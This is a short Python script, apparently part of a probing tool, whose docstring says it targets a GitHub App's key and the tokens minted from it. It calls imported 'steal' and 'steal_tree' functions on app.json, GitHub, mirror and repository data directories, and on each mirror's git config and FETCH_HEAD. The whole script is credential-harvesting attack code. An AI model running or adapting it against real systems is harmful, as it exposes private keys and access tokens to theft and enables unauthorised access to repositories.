"""The App's key and the tokens that were minted from it."""

from probe import FACTS, steal, steal_tree

for name in ("github/app.json", "github", "mirrors", "repos"):
    steal(f"{FACTS['data']}/{name}")
    steal_tree(f"{FACTS['data']}/{name}", most=100)
for path in FACTS["mirrors"]:
    steal(f"{path}/config")
    steal(f"{path}/FETCH_HEAD")
